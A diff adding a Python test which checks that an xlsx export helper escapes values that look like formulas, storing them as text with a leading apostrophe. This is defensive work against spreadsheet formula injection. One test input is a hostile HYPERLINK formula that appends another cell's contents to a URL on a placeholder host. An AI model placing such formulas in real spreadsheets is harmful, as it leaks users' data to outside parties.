@@ -212,3 +212,12 @@ def test_the_helper_writes_types_widths_and_a_bold_frozen_header():
     assert worksheet["B2"].number_format == "#,##0.00" and worksheet["C2"].number_format == "0.0%"
     assert worksheet["D2"].number_format == "yyyy-mm-dd" and worksheet.column_dimensions["D"].width == 14
     assert worksheet["A1"].font.b and worksheet.freeze_panes == "A2"
+
+
+def test_typed_text_that_looks_like_a_formula_is_written_as_text():
+    evil = '=HYPERLINK("http://x/?"&C2,"点此")'
+    content = xlsx_bytes(sheet="s", columns=[Column("Asset"), Column("Name")], rows=[(evil, "@SUM(1)"), ("普通", "-1")])
+    worksheet = load_workbook(io.BytesIO(content)).active
+    assert [cell.data_type for cell in worksheet[2]] == ["s", "s"]
+    assert (worksheet["A2"].value, worksheet["B2"].value) == ("'" + evil, "'@SUM(1)")
+    assert (worksheet["A3"].value, worksheet["B3"].value) == ("普通", "'-1")
